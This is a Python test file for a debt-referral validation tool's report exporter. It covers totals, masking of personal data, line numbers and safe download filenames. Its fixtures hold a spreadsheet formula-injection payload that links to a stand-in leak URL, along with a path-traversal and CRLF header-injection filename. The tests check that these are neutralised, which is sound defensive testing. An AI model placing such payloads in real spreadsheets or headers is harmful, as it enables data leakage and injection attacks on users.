"""Reports: summary figures, totals by code, and every finding in JSON, CSV, XLSX and ODS."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from urllib.parse import quote

import openpyxl
import polars as pl
import pytest
from odf.opendocument import load
from odf.table import Table, TableRow
from tests.builders import check, records, write

from aedx.validation.export import UnknownReportFormat, report_disposition, report_names, write_report
from aedx.validation.masking import mask_id, mask_name
from aedx.validation.report import Report

C = "case_referral"


@pytest.fixture
def report(tmp_path: Path) -> Report:
    rows = records(C, {"obligor_id": "A123456788", "amount_due": "1"}, {}, {"postcode": "880"})
    return check(write(tmp_path / "f.csv", C, rows), C)


def test_summary_and_totals(report: Report) -> None:
    summary = report.summary()
    assert (summary["rows"], summary["error_rows"], summary["warning_rows"], summary["valid"]) == (
        3,
        1,
        1,
        False,
    )
    totals = {(t["code"], t["severity"], t["count"]) for t in summary["totals"]}
    assert totals == {
        ("id.checksum", "error", 1),
        ("amount.sum_mismatch", "error", 1),
        ("postcode.mismatch", "warning", 1),
    }


def test_every_export_holds_every_finding(report: Report, tmp_path: Path) -> None:
    expected = [(f["row"], f["code"]) for f in report.findings.to_dicts()]
    write_report(report, tmp_path / "r.json")
    data = json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))
    assert [(f["row"], f["code"]) for f in data["findings"]] == expected
    write_report(report, tmp_path / "r.csv")
    with (tmp_path / "r.csv").open(encoding="utf-8-sig") as handle:
        rows = list(csv.reader(handle))
    assert rows[0][:3] == ["筆次 Record", "檔案行號 Line in file", "移送機關案號 Agency case number"]
    assert [(int(r[0]), r[4]) for r in rows[1:]] == expected
    write_report(report, tmp_path / "r.xlsx")
    book = openpyxl.load_workbook(tmp_path / "r.xlsx")
    assert book.sheetnames == ["摘要", "檢核結果"]
    sheet = [row for row in book["檢核結果"].iter_rows(min_row=2, values_only=True)]
    assert [(r[0], r[4]) for r in sheet] == expected
    write_report(report, tmp_path / "r.ods")
    tables = load(str(tmp_path / "r.ods")).spreadsheet.getElementsByType(Table)
    assert [t.getAttribute("name") for t in tables] == ["摘要", "檢核結果"]
    assert len(tables[1].getElementsByType(TableRow)) == 1 + len(expected)
    with pytest.raises(UnknownReportFormat):
        write_report(report, tmp_path / "r.pdf")


def test_personal_data_is_masked(report: Report) -> None:
    values = dict(zip(report.findings["code"], report.findings["value"], strict=True))
    assert values["id.checksum"] == "A12****788"


FORMULA = '=HYPERLINK("http://example.test/?leak","click")'


@pytest.fixture
def hostile(tmp_path: Path) -> Report:
    """Values a spreadsheet would read as formulas, in a public field and in personal ones."""
    rows = records(
        C,
        {"postcode": FORMULA},
        {"representative_id": "=A12345678"},
        {"obligor_name": "@SUM(1+1)\t"},
        {"debt_type": "-2+3\r"},
        {"agency_case_no": "+1+2"},
    )
    return check(write(tmp_path / "=cmd.csv", C, rows), C)


def test_no_export_holds_a_live_formula(hostile: Report, tmp_path: Path) -> None:
    values = set(hostile.findings["value"].drop_nulls())
    assert FORMULA in values  # the public value is reported as sent
    write_report(hostile, tmp_path / "r.xlsx")
    book = openpyxl.load_workbook(tmp_path / "r.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert FORMULA in {c.value for c in cells}  # a string cell, shown as it was sent
    assert {c.value for c in cells if c.data_type == "n"} >= {1, 2, 3}  # row numbers stay numbers
    write_report(hostile, tmp_path / "r.csv")
    with (tmp_path / "r.csv").open(encoding="utf-8-sig") as handle:
        cells_csv = [cell for row in csv.reader(handle) for cell in row]
    assert "'" + FORMULA in cells_csv
    assert not [c for c in cells_csv if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_masking_never_leaves_a_formula(hostile: Report) -> None:
    masked = hostile.findings.filter(pl.col("field").is_in(["representative_id", "obligor_name"]))
    assert masked.height == 2
    assert not [v for v in masked["value"] if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "*A1****678" in set(masked["value"])
    assert mask_id("=A12345678") == "*A1****678" and mask_name("=王") == "○○"


@pytest.mark.parametrize(
    ("original", "name", "fallback"),
    [
        ("移送0105.csv", "移送0105_檢核報告_S1.csv", "0105_report_S1.csv"),
        ('..\\..\\etc/pa"ss\r\nwd.csv', "pa_ss_wd_檢核報告_S1.csv", "pa_ss_wd_report_S1.csv"),
        ("a;b=c.txt", "a_b=c_檢核報告_S1.csv", "a_b_c_report_S1.csv"),
        ("..", "檢核報告_S1.csv", "report_S1.csv"),
        (None, "檢核報告_S1.csv", "report_S1.csv"),
    ],
)
def test_a_report_is_named_after_its_file_and_the_name_is_made_safe(
    original: str | None, name: str, fallback: str
) -> None:
    assert report_names(original, "S1", "csv") == (name, fallback)
    header = report_disposition(original, "S1", "csv")
    assert header == f"attachment; filename=\"{fallback}\"; filename*=UTF-8''{quote(name, safe='')}"
    assert "\r" not in header and "\n" not in header and header.count('"') == 2


def test_a_very_long_name_is_cut() -> None:
    name, fallback = report_names("甲" * 500 + ".csv", "S1", "xlsx")
    assert name == "甲" * 80 + "_檢核報告_S1.xlsx" and fallback == "report_S1.xlsx"


@pytest.mark.parametrize(("fmt", "before"), [("csv", 1), ("fixed", 0), ("jsonl", 0)])
def test_each_finding_names_the_line_of_the_file_and_the_case_number(
    tmp_path: Path, fmt: str, before: int
) -> None:
    rows = records(C, {}, {}, {"obligor_id": "A123456788"})
    path = write(
        tmp_path / f"f.{fmt}", C, rows, fmt=fmt, trailer=b"#CONTROL,3,0\n" if fmt == "fixed" else b""
    )
    report = check(path, C, fmt)
    found = report.lined().filter(pl.col("code") == "id.checksum").to_dicts()
    case_no = rows["agency_case_no"][2]
    assert [(f["row"], f["line"], f["case_no"]) for f in found] == [(3, 3 + before, case_no)]
    as_json = [f for f in report.to_dict()["findings"] if f["code"] == "id.checksum"]
    assert [(f["row"], f["line"], f["case_no"]) for f in as_json] == [(3, 3 + before, case_no)]
    lines = path.read_text(encoding="utf-8").splitlines()
    assert case_no in lines[3 + before - 1]  # the line a text editor shows holds the record
    write_report(report, tmp_path / "r.csv")
    with (tmp_path / "r.csv").open(encoding="utf-8-sig") as handle:
        shown = [r for r in csv.reader(handle)][1:]
    assert [r[:3] for r in shown if r[4] == "id.checksum"] == [["3", str(3 + before), case_no]]
    write_report(report, tmp_path / "r.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "r.xlsx")["檢核結果"]
    assert [r[:3] for r in sheet.iter_rows(min_row=2, values_only=True) if r[4] == "id.checksum"] == [
        (3, 3 + before, case_no)
    ]
    write_report(report, tmp_path / "r.ods")
    table = load(str(tmp_path / "r.ods")).spreadsheet.getElementsByType(Table)[1]
    texts = [[str(c) for c in row.childNodes] for row in table.getElementsByType(TableRow)]
    assert texts[0][:3] == ["筆次 Record", "檔案行號 Line in file", "移送機關案號 Agency case number"]
    assert [t[:3] for t in texts[1:] if t[4] == "id.checksum"] == [["3", str(3 + before), case_no]]


def test_a_finding_on_the_whole_file_has_no_line_and_a_duplicate_names_its_case(tmp_path: Path) -> None:
    rows = records(C, {}, {}).with_columns(pl.lit("113TAX000123").alias("agency_case_no"))
    report = check(write(tmp_path / "f.csv", C, rows), C)
    dup = report.lined().filter(pl.col("code") == "record.duplicate").to_dicts()
    assert [(f["row"], f["line"], f["case_no"]) for f in dup] == [(2, 3, "113TAX000123")]
